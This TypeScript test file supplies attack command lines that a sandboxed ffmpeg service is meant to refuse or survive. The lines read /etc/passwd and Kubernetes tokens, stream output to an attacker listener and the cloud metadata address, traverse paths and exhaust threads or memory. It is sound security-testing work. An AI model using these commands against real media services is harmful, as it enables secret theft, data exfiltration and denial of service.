import type { AttackAddresses, AttackSubmission } from './attack-submission.ts'

/**
 * Command lines beyond those that parser and sandbox are tested with, for the service as a whole:
 * each is to be refused, or to end without harm.
 */
export function commandAttacks({ listener, own }: AttackAddresses): AttackSubmission[] {
  const urls = [`http://${listener}/a.mp4`, 'http://169.254.169.254/latest/meta-data/', ...own]
  return [
    ...lines.map(([name, command]) => zip(name, command.replaceAll('HOST', listener))),
    ...urls.map((url) => zip(`input from ${url}`, `-i ${url} -c copy a.mkv`)),
    ...urls.map((url) => zip(`output to ${url}`, `-i in.mp4 -c copy -f mpegts ${url}`)),
    ...placeholders.map(([name, command]) => ({
      ...{ name, command, form: 'files' as const },
      files: { 'one.mp4': '', 'two.txt': 'two' },
    })),
  ]
}

function zip(name: string, command: string): AttackSubmission {
  return { name, command, form: 'zip', files: {} }
}

const lines: readonly (readonly [name: string, command: string])[] = [
  ['report by an option', '-report -i in.mp4 a.mp4'],
  [
    'report with its environment typed in front',
    'FFREPORT=file=/tmp/x:level=48 ffmpeg -i in.mp4 a.mp4',
  ],
  ['value from a file by an at sign', '-i in.mp4 -metadata title=@/etc/passwd -c copy a.mkv'],
  ['name that begins with an at sign', '-i @/etc/passwd a.mkv'],
  ['options from a file', '-/i /etc/passwd a.mkv'],
  ['playlist that never ends', '-stream_loop -1 -i in.mp4 -c copy -fs 200000 a.mkv'],
  ['glob of everything', '-f image2 -pattern_type glob -i "/*/*" a.mp4'],
  ['glob of the parent', '-f image2 -pattern_type glob -i "../*" a.mp4'],
  ['pattern through /proc', '-f image2 -i /proc/%d/environ a.mp4'],
  [
    'attachment of the token',
    '-i in.mp4 -attach /var/run/secrets/kubernetes.io/serviceaccount/token -metadata:s:t mimetype=text/plain -c copy a.mkv',
  ],
  ['token as raw samples', '-f u8 -ar 8000 -ac 1 -i /var/run/secrets/tokens/gateway a.wav'],
  [
    'socket of the supervisor as input',
    '-f data -i unix:/link/ffmpeg.sock -map 0 -c copy -f data a.bin',
  ],
  ['socket of the supervisor as output', '-i in.mp4 -c copy -f mpegts unix:/link/ffmpeg.sock'],
  ['abstract socket', '-i in.mp4 -c copy -f mpegts unix:@x'],
  ['descriptor three', '-i in.mp4 -c copy -f mpegts pipe:3'],
  ['descriptor by number', '-i in.mp4 -c copy -f mpegts -fd 3 fd:'],
  ['md5 over the network', '-i in.mp4 -f mpegts md5:http://HOST/a'],
  ['tee over the network', '-i in.mp4 -map 0 -c copy -f tee "a.mkv|[f=mpegts]tcp://HOST"'],
  ['tee to a parent', '-i in.mp4 -map 0 -c copy -f tee "a.mkv|../../tmp/b.mkv"'],
  ['tee by a protocol', '-i in.mp4 -c copy -f mpegts "tee:a.ts|http://HOST/b.ts"'],
  ['tee hidden in quotes', `-i in.mp4 -map 0 -c copy -f tee "a.mkv|'[f=mpegts]http://HOST/b'"`],
  [
    'fifo muxer over the network',
    '-i in.mp4 -c copy -map 0 -f fifo -fifo_format mpegts http://HOST/x',
  ],
  ['segments over the network', '-i in.mp4 -c copy -f segment -segment_time 1 http://HOST/%d.ts'],
  [
    'list of segments over the network',
    '-i in.mp4 -c copy -f segment -segment_list http://HOST/l.m3u8 s%d.ts',
  ],
  ['prefix that is a path', '-i in.mp4 -c copy -f hls -hls_segment_filename /tmp/%d.ts a.m3u8'],
  [
    'strftime into a parent',
    '-i in.mp4 -c copy -f hls -strftime 1 -strftime_mkdir 1 -hls_segment_filename "../%Y/%s.ts" a.m3u8',
  ],
  [
    'key of HLS by a URL',
    '-i in.mp4 -c copy -f hls -hls_enc 1 -hls_enc_key_url http://HOST/k a.m3u8',
  ],
  ['PUT of HLS', '-i in.mp4 -c copy -f hls -method PUT http://HOST/a.m3u8'],
  [
    'DASH with a name above',
    '-i in.mp4 -c copy -f dash -init_seg_name ../i.m4s -media_seg_name "../s$Number$.m4s" a.mpd',
  ],
  ['DASH that posts', '-i in.mp4 -c copy -f dash -http_opts method=PUT a.mpd'],
  [
    'address of the clock in DASH',
    '-i in.mp4 -c copy -f dash -utc_timing_url http://HOST/clock a.mpd',
  ],
  ['listening', '-listen 1 -i http://0.0.0.0:8080 a.mkv'],
  ['listening by a query', '-i "tcp://0.0.0.0:8080?listen=1" a.mkv'],
  ['SRT, RIST, Icecast', '-i in.mp4 -c copy -f mpegts "srt://HOST"'],
  ['Gopher', '-i gopher://HOST/1 a.mkv'],
  ['FTP', '-i ftp://HOST/a a.mkv'],
  ['SMB', '-i smb://HOST/a a.mkv'],
  ['AMQP', '-i in.mp4 -c copy -f mpegts amqp://HOST/'],
  ['IPFS by a gateway', '-gateway http://HOST -i ipfs://x a.mkv'],
  ['protocol in capitals', '-i HTTP://HOST/a a.mkv'],
  ['protocol with blanks', '-i " http://HOST/a" a.mkv'],
  ['protocol in a concat', '-i "concat:in.mp4|http://HOST/a" -c copy a.mkv'],
  [
    'protocol as option of a demuxer',
    '-f concat -safe 0 -protocol_whitelist file,http,tcp -i list.txt a.mkv',
  ],
  [
    'movie with options of its own',
    `-f lavfi -i "movie=in.mp4:format_opts='protocol_whitelist=file,http,tcp'" -frames:v 1 a.png`,
  ],
  ['movie hidden by escapes', String.raw`-f lavfi -i "m\ovie=/etc/p\asswd" a.mp4`],
  [
    'movie hidden in a label',
    '-i in.mp4 -filter_complex "[0:v]null[a];movie=/etc/passwd[b];[a][b]overlay" a.mp4',
  ],
  ['movie by a number of streams', '-f lavfi -i "movie=/etc/passwd:s=dv+da [v][a]" a.mp4'],
  ['plug-in of LADSPA', '-i in.mp4 -af ladspa=file=/job/work/in.mp4:x a.wav'],
  ['plug-in of LV2', '-i in.mp4 -af lv2=p=file\\:///job/work a.wav'],
  ['plug-in of frei0r', '-i in.mp4 -vf frei0r=../../job/work/in:0 a.mp4'],
  ['programs of OpenCL', '-i in.mp4 -vf program_opencl=source=/etc/passwd:kernel=x a.mp4'],
  ['shader', '-i in.mp4 -vf libplacebo=custom_shader_path=/etc/passwd a.mp4'],
  ['model of a network', '-i in.mp4 -vf dnn_processing=model=/etc/passwd:input=x:output=y a.mp4'],
  ['characters from a folder', '-i in.mp4 -vf ocr=datapath=/etc a.mp4'],
  ['quirc and script', '-i in.mp4 -f avisynth -i x.avs a.mp4'],
  ['messages by zmq', '-i in.mp4 -vf zmq=b=tcp\\\\://0.0.0.0\\\\:5555 a.mp4'],
  ['device of the kernel', '-f v4l2 -i /dev/video0 a.mp4'],
  ['frame buffer', '-f fbdev -i /dev/fb0 a.mp4'],
  ['device by lavfi', '-f lavfi -i in.mp4 -f sdl x'],
  [
    'hardware initialised from a path',
    '-init_hw_device vaapi=x:/dev/dri/../../etc/passwd -i in.mp4 a.mp4',
  ],
  ['statistics file', '-i in.mp4 -vstats_file /tmp/v a.mp4'],
  ['pass log above', '-i in.mp4 -pass 1 -passlogfile ../../tmp/x -c:v libx264 -an -f null -'],
  [
    'statistics of x264 by a parameter',
    '-i in.mp4 -c:v libx264 -x264-params "stats=/tmp/x:pass=1" -f null -',
  ],
  ['dump of x264 by an option', '-i in.mp4 -c:v libx264 -x264opts dump-yuv=/tmp/x -f null -'],
  ['recon of SVT', '-i in.mp4 -c:v libsvtav1 -svtav1-params recon=/tmp/x -frames:v 1 -f null -'],
  ['graph printed to a file', '-print_graphs_file /tmp/g -i in.mp4 a.mp4'],
  ['plan of the session', '-i in.mp4 -c copy -f mpegts -sdp_file /tmp/s a.ts'],
  ['frames of thirty thousand', '-i in.mp4 -vf scale=30000:30000 -frames:v 1 a.png'],
  ['frames of nobody', '-f lavfi -i color=s=32767x32767:d=1 -frames:v 1 a.png'],
  [
    'threads without end',
    '-threads 100000 -i in.mp4 -threads 100000 -c:v libx264 -x264-params threads=512 -frames:v 1 a.mp4',
  ],
  [
    'pools of x265',
    '-i in.mp4 -c:v libx265 -x265-params pools=9999:frame-threads=16 -frames:v 1 a.mp4',
  ],
  [
    'messages without end',
    '-f lavfi -i color=s=16x16:r=5000:d=4 -vf showinfo -f null - -f lavfi -t 0.1 -i anullsrc a.wav',
  ],
  ['files without end', '-f lavfi -i color=s=16x16:r=10000:d=9 f%06d.bmp'],
  ['filter without end', '-i in.mp4 -vf tpad=stop=-1 -fs 100000 a.mkv'],
  [
    'memory by backwards',
    '-f lavfi -i testsrc2=s=3840x2160:d=60 -vf reverse -f null - -i in.mp4 -c copy a.mkv',
  ],
  ['output above', '-i in.mp4 -c copy ../a.mkv'],
  ['output with a point', '-i in.mp4 -c copy ./../a.mkv'],
  ['output at home', '-i in.mp4 -c copy ~/a.mkv'],
  ['output by backslashes', '-i in.mp4 -c copy "..\\\\..\\\\a.mkv"'],
  ['output with a line end', '-i in.mp4 -c copy "a\nSet-Cookie: x.mkv"'],
  ['output of full-width points', '-i in.mp4 -c copy ．．/a.mkv'],
  ['output turned by an override', '-i in.mp4 -c copy "a\u202evkm.exe.mkv"'],
  ['output with a NUL', '-i in.mp4 -c copy "a\u0000b.mkv"'],
  ['output into the inputs', '-i in.mp4 -c copy ../in/a.mkv'],
  ['output over the socket', '-i in.mp4 -c copy -f matroska /link/ffmpeg.sock'],
  ['metadata that is a terminal', '-i in.mp4 -c copy -metadata "title=\u001b]0;x\u0007" a.mkv'],
]

/** Each has a film as `in_1` and a text as `in_2`. */
const placeholders: readonly (readonly [name: string, command: string])[] = [
  ['path behind a placeholder', '-i {{in_1}}/../../etc/passwd -c copy {{out_1}}'],
  ['protocol before a placeholder', '-i subfile,,start,0,end,0,,:{{in_1}} -c copy {{out_1}}'],
  ['placeholder within a placeholder', '-i {{in_{{in_1}}}} -c copy {{out_1}}'],
  ['output as a file of a filter that reads', '-i {{in_1}} -vf subtitles={{out_1}} {{out_1}}'],
  ['input written over', '-i {{in_1}} -c copy {{in_2}} -c copy {{out_1}}'],
  ['prototype as an alias', '-i {{__proto__}} -c copy {{out_1}}'],
  ['constructor as an alias', '-i {{constructor}} {{out_1}}'],
]
